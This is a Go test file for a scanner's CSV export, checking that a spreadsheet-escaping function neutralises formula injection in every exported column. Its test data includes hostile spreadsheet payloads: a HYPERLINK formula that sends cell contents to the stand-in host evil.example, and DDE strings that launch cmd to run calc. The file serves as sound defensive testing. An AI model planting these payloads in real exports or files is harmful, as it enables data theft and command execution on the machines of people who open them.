package activities

import (
	"testing"

	"github.com/scantron/scantron/scan"
)

func TestSpreadsheetSafe(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil.example/?x="&A1,"click")`: `'=HYPERLINK("http://evil.example/?x="&A1,"click")`,
		"+1+cmd|' /C calc'!A0":                             "'+1+cmd|' /C calc'!A0",
		"-2+3":                                             "'-2+3",
		"@SUM(1+9)*cmd|' /C calc'!A0":                      "'@SUM(1+9)*cmd|' /C calc'!A0",
		"\t=1+1":                                           "'\t=1+1",
		"\r=1+1":                                           "'\r=1+1",
		"\n=1+1":                                           "'\n=1+1",
		"\uff1d1+1":                                        "'\uff1d1+1",
		"OpenSSH":                                          "OpenSSH",
		"198.18.0.1":                                       "198.18.0.1",
		"a=b":                                              "a=b",
		"'quoted":                                          "'quoted",
		"":                                                 "",
	} {
		if got := spreadsheetSafe(in); got != want {
			t.Errorf("spreadsheetSafe(%q) = %q, want %q", in, got, want)
		}
	}
}

// Every cell of a record is neutralised, whichever column the hostile text
// from a scanned host lands in: its PTR name, its masscan banner or its
// service's product, version and extra info.
func TestExportRecordNeutralisesEveryCell(t *testing.T) {
	hostile := `=HYPERLINK("http://evil.example","x")`
	row := scan.ExportRow{Site: "@site", Scan: "-scan", Host: "198.18.0.5", Hostname: hostile, Port: 21, Protocol: "tcp",
		State: "open", Service: "+ftp", Product: hostile, Version: "-1", ExtraInfo: "\tx", Reason: "syn-ack",
		Banner: "=cmd|' /C calc'!A0", Agent: "a1", Scanner: scan.Masscan}
	rec := exportRecord(row)
	if len(rec) != len(CSVHeader) {
		t.Fatalf("%d cells, header has %d", len(rec), len(CSVHeader))
	}
	for i, cell := range rec {
		if cell != "" && spreadsheetSafe(cell) != cell {
			t.Errorf("column %s = %q is left for a spreadsheet to run", CSVHeader[i], cell)
		}
	}
	if rec[5] != "'"+hostile || rec[19] != "'=cmd|' /C calc'!A0" {
		t.Errorf("hostname %q, banner %q", rec[5], rec[19])
	}
}
